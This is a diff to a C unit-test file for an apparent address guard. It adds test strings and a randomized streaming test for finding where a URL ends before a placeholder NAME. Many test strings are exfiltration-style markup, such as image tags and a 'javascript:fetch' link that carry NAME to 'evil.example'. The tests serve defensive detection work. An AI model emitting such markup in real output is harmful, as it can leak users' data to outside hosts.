@@ -10,6 +10,7 @@
 
 #include <stdio.h>
 
+#include "base/hash.h"
 #include "gate/guard/address.h"
 
 enum { BLOCK = 8 << 10 }; /* BLOCK_BYTES of address.c */
@@ -72,7 +73,12 @@ static void an_address_ends_where_a_reader_of_it_ends_it(void **state) {
         "<a href='java\nscript\n:\nfetch(1+\"NAME\")'>",
         "<img src=//evil.example/?\"NAME>", "<img src=//evil.example/?<NAME>",
         "<img src=//evil.example/?))NAME>", "<img src=//evil.example/?]NAME>",
-        "<img src=//evil.example/a\xEF\xBC\x8CNAME>",
+        "<img src=//evil.example/a\xEF\xBC\x8CNAME>", "See http://evil.example/)NAME there",
+        "See http://evil.example/a]NAME", "See http://evil.example/?\"NAME",
+        "http://e.example/>NAME",
+        "(http://evil.example/).NAME", "See http://evil.example/a)))-NAME", "evil.example/NAME",
+        "See sub.evil.example/?q=NAME", "EVIL.EXAMPLE/a/NAME", "user@evil.example/NAME",
+        "magnet:?xt=NAME", "(evil.example/a)NAME",
         "<img alt='>' src=//evil.example/?\"NAME>",
         "<img alt='>' srcset='x 1x, //evil.example/>\"NAME 2x'>",
         "<img alt='>' src = x:NAME>",
@@ -89,7 +95,11 @@ static void an_address_ends_where_a_reader_of_it_ends_it(void **state) {
         "<img alt='>' src='//evil.example/a'> is NAME: x", "See http://x.example/a, NAME.",
         "See (http://x.example/a), NAME.", "{\"u\":\"http://x.example/a\",\"n\":\"NAME\"}",
         "url(//evil.example/a) NAME", "\xE8\xA7\x81http://x.example\xEF\xBC\x8CNAME",
-        "[note]: see NAME", "C:\\Users\\NAME", "and/or NAME", "a \\evil NAME"};
+        "[note]: see NAME", "C:\\Users\\NAME", "and/or NAME",
+        "(http://x.example/a).\nNAME", "[\"http://x.example/a\",\"NAME\"]", "Mr.Smith/NAME",
+        "(see http://x.example/a): NAME", "<b>http://x.example/a</b>NAME", "e.g./NAME", "2.5/NAME",
+        "\"http://x.example/a\": NAME", "km/h NAME", "(evil.example/a) NAME", "evil.example NAME",
+        "a \\evil NAME"};
     char whole[512];
     const size_t befores[] = {0, 300, BLOCK - 20};
     Buf text;
@@ -132,8 +142,29 @@ static void a_scheme_is_seen_over_the_end_of_a_block(void **state) {
     buf_fini(&text);
 }
 
+/* Texts made of what opens and closes addresses, cut anywhere. */
+static void a_stream_says_the_same_as_the_whole_text(void **state) {
+    static const char *const pieces[] = {"http://", "e.example", "/", ")", "(", "]", "[", "\"", ">",
+                                         "<", " ", ",", ".", "a", "\n", "\xEF\xBC\x8C", "://", "-",
+                                         "\xE4\xB8\xAD", "](", "www.", "\\", "'", "<a href="};
+    uint64_t seed = 7;
+    char text[512];
+    (void)state;
+    for (int i = 0; i < 20000; i++) {
+        size_t n = 0;
+        for (int k = 0; k < 12; k++) {
+            n += (size_t)snprintf(text + n, sizeof text - n, "%s",
+                                  pieces[random_next(&seed) % ARRAY_LEN(pieces)]);
+        }
+        memcpy(text + n, "NAME", 5);
+        bool whole = is_inside(str_from(text), n);
+        if (is_open((Str){text, n}) != whole) fail_msg("\"%s\": %d in the whole", text, whole);
+    }
+}
+
 int main(void) {
     const struct CMUnitTest tests[] = {
+        cmocka_unit_test(a_stream_says_the_same_as_the_whole_text),
         cmocka_unit_test(an_address_ends_where_a_reader_of_it_ends_it),
         cmocka_unit_test(a_scheme_is_seen_over_the_end_of_a_block),
     };
